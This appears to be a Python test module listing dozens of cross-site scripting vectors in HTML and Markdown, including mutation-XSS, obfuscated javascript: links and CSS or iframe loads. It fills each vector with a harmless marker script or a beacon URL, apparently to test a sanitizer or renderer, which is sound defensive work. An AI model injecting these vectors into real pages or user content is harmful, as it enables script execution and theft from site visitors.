"""Ways to make a page run or load something. Each calls ``hit("name")`` or asks for ``BEACON/name`` if it works."""

SCRIPT = "window.hits=(window.hits||[]).concat('{name}')"

_HTML = {
    "script": "<script>{js}</script>",
    "script-src": "<script src='BEACON/script-src.js'></script>",
    "onerror": '<img src=x onerror="{js}">',
    "onerror-unquoted": "<img src=x onerror={js}>",
    "svg-onload": '<svg onload="{js}"></svg>',
    "svg-script": "<svg><script>{js}</script></svg>",
    "svg-animate": '<svg><animate onbegin="{js}" attributeName=x dur=1s></svg>',
    "svg-image": "<svg><image href='BEACON/svg-image'/></svg>",
    "svg-use": "<svg><use href='BEACON/svg-use#x'/></svg>",
    "svg-foreign": '<svg><foreignObject><img src=x onerror="{js}"></foreignObject></svg>',
    "math-mutation": "<math><mtext><table><mglyph><style><!--</style>"
    '<img title="--&gt;&lt;img src=1 onerror={js}&gt;">',
    "noscript-mutation": '<noscript><p title="</noscript><img src=x onerror={js}>">',
    "template": '<template><img src=x onerror="{js}"></template><img src=x onerror="{js}">',
    "details": '<details open ontoggle="{js}"><summary>x</summary></details>',
    "autofocus": '<input autofocus onfocus="{js}">',
    "marquee": '<marquee onstart="{js}">x</marquee>',
    "video": '<video><source onerror="{js}"></video>',
    "audio": '<audio src=x onerror="{js}"></audio>',
    "iframe-srcdoc": '<iframe srcdoc="<script>parent.{js}</script>"></iframe>',
    "iframe-javascript": '<iframe src="javascript:parent.{js}"></iframe>',
    "iframe-src": "<iframe src='BEACON/iframe-src'></iframe>",
    "object": "<object data='BEACON/object'></object>",
    "embed": "<embed src='BEACON/embed'>",
    "meta-refresh": "<meta http-equiv=refresh content='0;url=BEACON/meta-refresh'>",
    "base": "<base href='BEACON/'><img src='base'>",
    "link-stylesheet": "<link rel=stylesheet href='BEACON/link-stylesheet'>",
    "link-prefetch": "<link rel=prefetch href='BEACON/link-prefetch'>",
    "style-import": "<style>@import 'BEACON/style-import';</style>",
    "style-background": "<style>body{background:url(BEACON/style-background)}</style>",
    "css-url": '<div style="background:url(BEACON/css-url)">x</div>',
    "css-url-escaped": '<div style="background:u\\72l(BEACON/css-url-escaped)">x</div>',
    "css-image-set": "<div style=\"background:image-set('BEACON/css-image-set' 1x)\">x</div>",
    "css-list": '<ul style="list-style:url(BEACON/css-list)"><li>x</ul>',
    "css-comment": '<div style="background:/**/url(BEACON/css-comment)">x</div>',
    "img-src": "<img src='BEACON/img-src'>",
    "img-srcset": "<img srcset='BEACON/img-srcset 1x'>",
    "img-scheme-relative": "<img src='//HOST/img-scheme-relative'>",
    "picture": "<picture><source srcset='BEACON/picture'><img></picture>",
    "video-poster": "<video poster='BEACON/video-poster'></video>",
    "table-background": "<table background='BEACON/table-background'><tr><td>x</table>",
    "input-image": "<input type=image src='BEACON/input-image'>",
    "form-submit": "<form id=f action='BEACON/form-submit'></form><img src=x onerror='f.submit()'>",
    "broken-tag": '<img src=x onerror="{js}"//',
    "null-byte": '<scr\0ipt>{js}</scr\0ipt><img src=x on\0error="{js}">',
    "nested": "<scr<script>ipt>{js}</scr</script>ipt>",
    "comment": '<!--><img src=x onerror="{js}">-->',
    "cdata": '<![CDATA[><img src=x onerror="{js}">]]>',
    "attribute-break": "<img alt='\"><img src=x onerror={js}>'>",
    "close-box": "</div></div></main></body></html><script>{js}</script>",
    "xmp": '<xmp><p title="</xmp><img src=x onerror={js}>"></xmp>',
}
"""HTML that works as soon as it is in a page."""

_CLICKED = {
    "link": '<a class=bait href="javascript:{js}">x</a>',
    "link-tab": '<a class=bait href="java\tscript:{js}">x</a>',
    "link-entity": '<a class=bait href="&#106;avascript&colon;{js}">x</a>',
    "link-data": '<a class=bait href="data:text/html,<script>{js}</script>">x</a>',
    "link-case": '<a class=bait href=" JaVaScRiPt:{js}">x</a>',
    "svg-link": '<svg><a class=bait xlink:href="javascript:{js}"><text y=9>x</text></a></svg>',
    "form": '<form action="javascript:{js}"><button class=bait>x</button></form>',
    "onclick": '<b class=bait onclick="{js}">x</b>',
}
"""HTML that works once somebody clicks it."""

_MARKDOWN = {
    "md-link": "[x](javascript:{js})",
    "md-image": "![x](BEACON/md-image)",
    "md-image-break": '![x" onerror="{js}](x)',
    "md-title": '![x](x "\\" onerror=\\"{js}")',
    "md-reference": "[x][r]\n\n[r]: javascript:{js}",
    "md-autolink": "<javascript:{js}>",
    "md-code": "```<img src=x onerror={js}>\n```",
    "md-math": "$<img src=x onerror={js}>$\n\n$$</div><script>{js}</script>$$",
    "md-tex-text": "$\\text{<img src=x onerror={js}>}$",
    "md-tex-entity": "$$\\text{&lt;img src=x onerror={js}&gt;}$$",
    "md-tex-link": "$\\href{javascript:{js}}{x}$",
    "md-tex-style": "$\\style{background:url(BEACON/md-tex-style)}{x}\\class{bait}{x}$",
    "md-tex-environment": "\\begin{align}<script>{js}</script>\\end{align}",
    "md-tex-attribute": '<div title="\n\n$$x$$\n\n"><img src=x onerror={js}>',
    "md-tex-mutation": '$$\\text{<mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={js}&gt;">}$$',
    "md-mermaid": '```mermaid\ngraph TD; A["<img src=x onerror={js}>"]\n```',
    "md-table": "| a |\n|---|\n| <img src=x onerror={js}> |",
    "md-heading": "# <img src=x onerror={js}>",
    "md-fence": "~~~python\n</pre></div><script>{js}</script>\n~~~",
}
"""Markdown that a renderer turns into one of them."""


def fill(template: str, name: str, beacon: str) -> str:
    """Return an attack with its name, asking an address if it loads something."""
    filled = template.replace("{js}", SCRIPT.format(name=name)).replace("BEACON", beacon)
    return filled.replace("HOST", beacon.partition("//")[2])


def html(beacon: str) -> dict[str, str]:
    """Every attack in HTML, by name."""
    return {name: fill(template, name, beacon) for name, template in (_HTML | _CLICKED).items()}


def markdown(beacon: str) -> dict[str, str]:
    """Every attack in Markdown, HTML in Markdown included."""
    return html(beacon) | {name: fill(template, name, beacon) for name, template in _MARKDOWN.items()}
